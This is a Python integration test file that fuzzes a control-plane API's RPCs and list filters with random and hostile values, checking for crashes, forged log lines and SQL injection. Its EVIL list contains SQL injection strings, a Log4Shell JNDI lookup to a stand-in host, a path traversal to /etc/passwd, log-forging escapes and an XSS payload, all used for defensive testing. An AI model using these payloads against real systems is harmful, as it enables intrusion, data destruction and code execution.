"""
Hostile values in every field of every RPC of both APIs: no crash, no forged log line, no SQL.

``test_garbage`` breaks the protocols; these messages are well-formed.
"""

import logging
from collections.abc import Iterator
from itertools import product
from random import Random
from typing import Any

import pytest
from connectrpc.code import Code
from connectrpc.errors import ConnectError
from flyteidl2.common import list_pb2
from google.protobuf.descriptor import FieldDescriptor, MethodDescriptor
from google.protobuf.message import Message
from google.protobuf.message_factory import GetMessageClass

from controlplane.api import server
from controlplane.api.permissions import PERMISSIONS, Access
from shared.kit.logs import Text
from tests.integration.api.client import DOMAIN, ORG, PROJECT, ApiUnderTest
from tests.integration.api.requests import create_run, deploy, project_id, run_id
from tests.integration.api.test_garbage import call, envelope, judge

EVIL = (
    "'; DROP TABLE runs; --",
    "' OR '1'='1",
    '" OR 1=1 --',
    "\\' OR 1=1 --",
    "$$; SELECT pg_sleep(60); $$",
    ":name %(name)s {0} %s $1",
    "%",
    "_",
    "\\",
    "a\r\n12:00:00.000 ERROR   forged  org=acme",
    "\x1b[2J\x1b]0;title\x07",
    "\x9b2J",
    "\u202eevil\u2028line",
    "${jndi:ldap://evil.example/a}",
    "../../../etc/passwd",
    "<script>alert(1)</script>",
    "nul\0nul",
    "\U0001f600" * 60,
    "x" * 5000,
)
PLAUSIBLE = (ORG, PROJECT, DOMAIN, "r1", "a0", "env.main", "v1", "local", "viewer", "name")
NUMBERS = (0, 1, -1, 2**31 - 1, -(2**31), 2**63 - 1, -(2**63), 2**32, 1000)
METHODS = {
    f"{service.full_name}/{method.name}": method
    for service in server.services()
    for method in service.methods
}
SERVICES = {
    service.full_name: [
        method
        for method in service.methods
        if PERMISSIONS[service.full_name][method.name] is not Access.UNBUILT
    ]
    for service in server.services()
}
ROUNDS = 8


def fill(message: Message, chance: Random, *, depth: int = 0) -> None:
    """Set random fields to random values, plausible and hostile ones."""
    for field in message.DESCRIPTOR.fields:
        if chance.random() < 0.3 + depth * 0.1:
            continue
        is_map = field.message_type is not None and field.message_type.GetOptions().map_entry
        if is_map:
            continue
        if field.message_type is not None:
            if depth > 4:
                continue
            part = getattr(message, field.name)
            for _ in range(chance.randint(1, 3) if field.is_repeated else 1):
                below = part.add() if field.is_repeated else part
                below.SetInParent()
                fill(below, chance, depth=depth + 1)
        elif field.is_repeated:
            values = [find_value(field, chance) for _ in range(chance.randint(1, 3))]
            getattr(message, field.name).extend(values)
        else:
            setattr(message, field.name, find_value(field, chance))


def find_value(field: Any, chance: Random) -> Any:
    match field.cpp_type:
        case FieldDescriptor.CPPTYPE_STRING if field.type == FieldDescriptor.TYPE_BYTES:
            return chance.randbytes(chance.choice((0, 1, 16, 300)))
        case FieldDescriptor.CPPTYPE_STRING:
            return chance.choice(EVIL if chance.random() < 0.5 else PLAUSIBLE)
        case FieldDescriptor.CPPTYPE_BOOL:
            return chance.random() < 0.5
        case FieldDescriptor.CPPTYPE_DOUBLE | FieldDescriptor.CPPTYPE_FLOAT:
            return chance.choice((0.0, -1.5, float("inf"), float("nan"), 1e38))
        case FieldDescriptor.CPPTYPE_INT32:
            return chance.choice([each for each in NUMBERS if -(2**31) <= each < 2**31])
        case FieldDescriptor.CPPTYPE_UINT32 | FieldDescriptor.CPPTYPE_UINT64:
            return chance.choice((0, 1, 2**32 - 1))
        case FieldDescriptor.CPPTYPE_ENUM:
            return chance.choice([each.number for each in field.enum_type.values])
        case _:
            return chance.choice(NUMBERS)


def request_for(method: MethodDescriptor, body: bytes) -> bytes:
    path = f"/{method.containing_service.full_name}/{method.name}"
    if method.server_streaming or method.client_streaming:
        return call(path, envelope(body), "content-type: application/connect+proto")
    return call(path, body, "content-type: application/proto")


@pytest.mark.parametrize("service", [name for name, built in SERVICES.items() if built])
async def test_hostile_messages_are_never_bugs(
    api: ApiUnderTest, caplog: pytest.LogCaptureFixture, service: str
) -> None:
    caplog.set_level(logging.DEBUG)
    await api.runs.create_run(create_run())
    await api.tasks.deploy_task(deploy())
    chance = Random(service)
    for method, number in product(SERVICES[service], range(ROUNDS)):
        message = GetMessageClass(method.input_type)()
        fill(message, chance)
        body = message.SerializeToString() if number else chance.randbytes(200)
        try:
            await judge(api, request_for(method, body), caplog)
        except AssertionError as error:
            raise AssertionError(f"{method.full_name}, message {number}: {message}") from error
        for record in caplog.records:
            line = Text(colours=False).format(record)
            assert line.isprintable(), line
    found = await api.runs.get_run_details(_details())
    assert found.details.action.id.run.name == "r1"


def _details() -> Any:
    method = METHODS["flyteidl2.workflow.RunService/GetRunDetails"]
    return GetMessageClass(method.input_type)(run_id=run_id())


FIELDS = (
    *("name", "id", "action_name", "task_name", "function_name", "environment", "environment_name"),
    *("status", "phase", "created_by", "project", "domain", "version", "deployed_by", "run_name"),
    *("parent", "group", "created_at", "trigger_name", "source", "entrypoint", "short_name"),
)
NARROWING = ("EQUAL", "CONTAINS")


def lists(api: ApiUnderTest) -> Iterator[tuple[Any, Any, str]]:
    """Yield each list: its method, its request without filters, the field of its answers."""
    for listing, name, field, query in (
        (api.runs.list_runs, "workflow.RunService/ListRuns", "runs", {"project_id": project_id()}),
        (api.runs.list_actions, "workflow.RunService/ListActions", "actions", {"run_id": run_id()}),
        (api.tasks.list_tasks, "task.TaskService/ListTasks", "tasks", {"project_id": project_id()}),
    ):
        request = GetMessageClass(METHODS[f"flyteidl2.{name}"].input_type)
        yield listing, request(**query), field


async def test_hostile_filters_find_nothing(api: ApiUnderTest) -> None:
    await api.runs.create_run(create_run())
    await api.tasks.deploy_task(deploy())
    accepted = 0
    for listing, query, field in lists(api):
        assert len(getattr(await listing(query), field)) == 1
        for name in FIELDS:
            for function in NARROWING:
                for value in EVIL[:8]:
                    query.request.Clear()
                    query.request.filters.add(
                        function=list_pb2.Filter.Function.Value(function),
                        field=name,
                        values=[value],
                    )
                    try:
                        found = await listing(query)
                    except ConnectError as error:
                        if error.code is not Code.INVALID_ARGUMENT:
                            raise
                        break  # the field or function is not served
                    accepted += 1
                    # The SDK's names have underscores, so "_" is found as the letter that it is.
                    if value not in {"_", "%"}:
                        assert not getattr(found, field), (name, function, value)
        query.request.Clear()
        query.request.sort_by_fields.add(key="name; DROP TABLE runs")
        with pytest.raises(Exception, match="name; DROP TABLE runs"):
            await listing(query)
    assert accepted > 80
